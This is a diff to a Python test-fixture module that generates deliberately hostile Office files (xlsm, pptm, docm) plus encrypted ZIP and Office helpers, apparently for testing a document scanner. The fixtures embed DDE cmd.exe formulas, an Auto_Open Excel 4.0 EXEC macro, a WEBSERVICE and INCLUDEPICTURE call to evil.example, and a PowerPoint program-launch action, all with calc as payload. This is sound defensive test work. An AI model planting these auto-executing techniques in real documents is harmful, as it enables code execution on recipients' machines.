@@ -12,6 +12,8 @@ import zipfile
 from collections.abc import Callable
 
 import docx
+import openpyxl
+import pptx
 from PIL import Image
 from pypdf import PdfReader, PdfWriter
 from pypdf.generic import ArrayObject, DictionaryObject, FloatObject, NameObject, TextStringObject
@@ -183,7 +185,7 @@ def hostile_docm() -> bytes:
             '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>'
             " DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\windows\\\\system32\\\\cmd.exe"
             ' "/k calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
-            '<w:r><w:t>DDE結果</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+            '<w:r><w:t>計算結果</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
             '<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://evil.example/p.png&quot; ">'
             "<w:r><w:t>画像</w:t></w:r></w:fldSimple></w:p>"
             '<w:p><w:hyperlink r:id="rIdLink"><w:r><w:t>リンクの文字</w:t></w:r>'
@@ -204,3 +206,128 @@ def hostile_docm() -> bytes:
         )  # fmt: skip
 
     return _rewrite(base, change)
+
+
+XLSM_MAIN = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
+XLSX_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
+
+
+def xlsx_bytes(rows: list[list[object]], title: str = "Sheet1") -> bytes:
+    book = openpyxl.Workbook()
+    sheet = book.active
+    assert sheet is not None
+    sheet.title = title
+    for row in rows:
+        sheet.append(row)
+    out = io.BytesIO()
+    book.save(out)
+    return out.getvalue()
+
+
+def hostile_xlsm() -> bytes:
+    """DDE and WEBSERVICE formulas, a VBA project, an Excel 4.0 macro sheet run by Auto_Open,
+    and a link to an external workbook."""
+    base = xlsx_bytes(
+        [["売上", "=cmd|'/c calc'!A0", '=WEBSERVICE("http://evil.example/")', "=1+2"]]
+    )
+
+    def change(parts: dict[str, bytes]) -> None:
+        rels = "xl/_rels/workbook.xml.rels"
+        parts["xl/vbaProject.bin"] = FAKE_VBA
+        parts["xl/macrosheets/sheet2.xml"] = (
+            b'<?xml version="1.0"?><xm:macrosheet xmlns="http://schemas.openxmlformats.org/'
+            b'spreadsheetml/2006/main" xmlns:xm="http://schemas.microsoft.com/office/excel/2006/'
+            b'main"><sheetData><row r="1"><c r="A1"><f>EXEC("calc.exe")</f></c></row>'
+            b"</sheetData></xm:macrosheet>"
+        )
+        parts["xl/externalLinks/externalLink1.xml"] = (
+            b'<?xml version="1.0"?><externalLink xmlns="http://schemas.openxmlformats.org/'
+            b'spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"/>'
+            b"</externalLink>"
+        )
+        _add_rel(parts, rels, "rIdVba", f"{MS_R}/vbaProject", "vbaProject.bin")
+        _add_rel(parts, rels, "rIdM", f"{MS_R}/xlMacrosheet", "macrosheets/sheet2.xml")
+        _add_rel(parts, rels, "rIdX", f"{R}/externalLink", "externalLinks/externalLink1.xml")
+        book = parts["xl/workbook.xml"].decode()
+        book = book.replace("</sheets>", '<sheet name="Macro1" sheetId="2" r:id="rIdM"/></sheets>'
+                            '<externalReferences><externalReference r:id="rIdX"/>'
+                            "</externalReferences>")  # fmt: skip
+        auto = '<definedName name="_xlnm.Auto_Open">Macro1!$A$1</definedName>'
+        if "<definedNames>" in book:
+            book = book.replace("<definedNames>", "<definedNames>" + auto)
+        else:
+            book = book.replace("<calcPr", f"<definedNames>{auto}</definedNames><calcPr")
+        if 'xmlns:r="' not in book.split(">", 2)[1]:
+            book = book.replace("<workbook ", f'<workbook xmlns:r="{R}" ', 1)
+        parts["xl/workbook.xml"] = book.encode()
+        _set_types(
+            parts,
+            {"xl/vbaProject.bin": "application/vnd.ms-office.vbaProject",
+             "xl/macrosheets/sheet2.xml": "application/vnd.ms-excel.macrosheet+xml",
+             "xl/externalLinks/externalLink1.xml":
+                 "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"},
+            main=(XLSX_MAIN, XLSM_MAIN),
+        )  # fmt: skip
+
+    return _rewrite(base, change)
+
+
+PPTX_MAIN = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
+PPTM_MAIN = "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml"
+
+
+def pptx_bytes(slides: list[list[str]], *, program_action: bool = False) -> bytes:
+    deck = pptx.Presentation()
+    for lines in slides:
+        slide = deck.slides.add_slide(deck.slide_layouts[1])
+        slide.shapes.title.text = lines[0]  # type: ignore[union-attr]
+        body = slide.placeholders[1]
+        body.text = "\n".join(lines[1:])  # type: ignore[attr-defined]
+        if program_action:
+            title = slide.shapes.title
+            assert title is not None
+            title.click_action.hyperlink.address = "file:///C:/Windows/System32/calc.exe"
+            for link in title._element.iter("{*}hlinkClick"):
+                link.set("action", "ppaction://program")
+    out = io.BytesIO()
+    deck.save(out)
+    return out.getvalue()
+
+
+def hostile_pptm() -> bytes:
+    base = pptx_bytes([["議事録", "出席者: 3名"]], program_action=True)
+
+    def change(parts: dict[str, bytes]) -> None:
+        parts["ppt/vbaProject.bin"] = FAKE_VBA
+        _add_rel(parts, "ppt/_rels/presentation.xml.rels", "rIdVba", f"{MS_R}/vbaProject",
+                 "vbaProject.bin")  # fmt: skip
+        _set_types(parts, {"ppt/vbaProject.bin": "application/vnd.ms-office.vbaProject"},
+                   main=(PPTX_MAIN, PPTM_MAIN))  # fmt: skip
+
+    return _rewrite(base, change)
+
+
+def zip_bytes(files: dict[str, bytes], *, password: bytes | None = None) -> bytes:
+    """A plain ZIP, or a WinZip AES one (pyzipper) when a password is given."""
+    out = io.BytesIO()
+    if password is None:
+        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
+            for name, data in files.items():
+                archive.writestr(name, data)
+        return out.getvalue()
+    import pyzipper
+
+    with pyzipper.AESZipFile(out, "w", compression=pyzipper.ZIP_DEFLATED,
+                             encryption=pyzipper.WZ_AES) as archive:  # fmt: skip
+        archive.setpassword(password)
+        for name, data in files.items():
+            archive.writestr(name, data)
+    return out.getvalue()
+
+
+def encrypted_office(data: bytes, password: str) -> bytes:
+    from msoffcrypto.format.ooxml import OOXMLFile
+
+    out = io.BytesIO()
+    OOXMLFile(io.BytesIO(data)).encrypt(password, out)
+    return out.getvalue()
